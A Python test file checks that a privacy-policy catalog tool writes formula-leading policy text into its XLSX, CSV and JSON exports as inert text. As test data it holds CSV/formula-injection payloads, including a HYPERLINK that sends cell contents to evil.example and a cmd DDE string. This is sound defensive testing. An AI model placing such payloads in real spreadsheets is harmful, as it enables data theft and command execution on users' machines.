"""Policy text is hostile input: a quote that starts like a formula must land in every spreadsheet
and CSV the product writes as inert text. The policy is a real file run through the real build and
every export; the files are read back both through openpyxl and as raw XML."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from catalog.cli.app import app
from catalog.export.workbook import FORMULA_LEADS, QUOTE_PREFIX, inert

runner = CliRunner()

#: Sentences a policy could carry, each opening with what a spreadsheet would evaluate.
HOSTILE = (
    '=HYPERLINK("http://evil.example/x","Evil Shop") Evil Shop Privacy Policy\n\n'
    "Effective date: {date}\n\n1. Information we collect\n\n"
    '=HYPERLINK("http://evil.example/steal?d="&A1,"We collect your email address") We collect your email address '
    "and your phone number when you register.\n\n"
    "+1+1 We use your postal address to deliver your orders, on the basis of our contract with you.\n\n"
    "@SUM(1+1) We share your email address with Google for advertising.\n\n"
    "-2+3 We keep your payment card number for {years} years.\n\n"
    "2. International transfers\n\n"
    "=1+1 We transfer your email address to the United States and India under the standard contractual clauses.\n"
)


def run(*args: str):
    r = runner.invoke(app, list(args), catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return r


def dangerous(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_LEADS)


def assert_inert_workbook(path: Path) -> int:
    """No formula cell, no text cell starting like one, read through openpyxl and in the raw sheet XML."""
    wb = load_workbook(path)
    cells = 0
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                cells += 1
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                assert not dangerous(c.value), (ws.title, c.coordinate, c.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), (path.name, name)
    return cells


def test_inert_neutralises_every_formula_lead():
    for lead in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
        assert inert(lead + "1+1") == QUOTE_PREFIX + lead + "1+1"
    assert inert("  =cmd|' /C calc'!A0") == "'  =cmd|' /C calc'!A0"  # leading spaces hide nothing
    assert inert("We collect your email address.") == "We collect your email address."
    assert inert(-3) == -3 and inert(0.5) == 0.5 and inert(None) is None  # numbers stay numbers


@pytest.fixture
def hostile_catalog(tmp_path, db_url):
    old, new = tmp_path / "v1", tmp_path / "v2"
    old.mkdir(), new.mkdir()
    (old / "evil-shop-privacy-policy.txt").write_text(HOSTILE.format(date="1 March 2024", years=5), encoding="utf-8")
    (new / "evil-shop-privacy-policy.txt").write_text(HOSTILE.format(date="1 March 2025", years=7), encoding="utf-8")
    run("build", str(old), str(new), "--db", db_url)
    return db_url


def test_hostile_policy_every_export_is_inert(hostile_catalog, tmp_path):
    db = hostile_catalog
    run("export", "json", "-o", str(tmp_path / "c.json"), "--db", db)
    data = json.loads((tmp_path / "c.json").read_text(encoding="utf-8"))
    quotes = {e["quote"] for x in data["nodes"] + data["edges"] for e in x["evidence"]}
    hostile = {q for q in quotes if dangerous(q)}
    # the hostile text reached the catalog: each lead that survives ingest opens some quote
    assert {q[0] for q in hostile} >= {"=", "+", "-", "@"}, quotes
    versions = sorted(p["id"] for p in data["policies"])
    assert len(versions) == 2

    ico, cnil, diff, changes, csv_path = (tmp_path / n for n in ("ropa.xlsx", "cnil.xlsx", "diff.xlsx", "changes.xlsx",
                                                                 "ropa.csv"))
    run("export", "xlsx", "-o", str(ico), "--db", db)
    run("export", "xlsx", "-o", str(cnil), "--template", "cnil", "--db", db)
    run("diff", versions[0], versions[1], "--format", "xlsx", "-o", str(diff), "--db", db)
    run("export", "csv", "-o", str(csv_path), "--db", db)
    run("changes", "--format", "xlsx", "-o", str(changes), "--db", db)

    for path in (ico, cnil, diff):
        assert assert_inert_workbook(path) > 20
    assert assert_inert_workbook(changes) > 5
    wb = load_workbook(ico)
    assert sorted(wb.sheetnames) == sorted(["ROPA", "Transfers", "Recipients", "Evidence", "Findings"])
    evidence = {c.value for row in wb["Evidence"].iter_rows() for c in row}
    assert {QUOTE_PREFIX + q for q in hostile} <= evidence  # the quote is all there, behind one quote mark
    findings = [c.value for row in wb["Findings"].iter_rows(min_row=2) for c in row]
    assert any(isinstance(v, str) and v.startswith(QUOTE_PREFIX + "=") for v in findings)
    diff_cells = {c.value for ws in load_workbook(diff) for row in ws.iter_rows() for c in row}
    assert any(isinstance(v, str) and v.startswith(QUOTE_PREFIX + "-2+3") for v in diff_cells)  # the changed sentence

    with csv_path.open(newline="", encoding="utf-8") as f:
        text = f.read()
    rows = list(csv.reader(text.splitlines()))
    assert len(rows) > 1 and all(not dangerous(v) for row in rows for v in row)
    assert all(line.startswith('"') for line in text.splitlines() if line)  # every field quoted (OWASP)
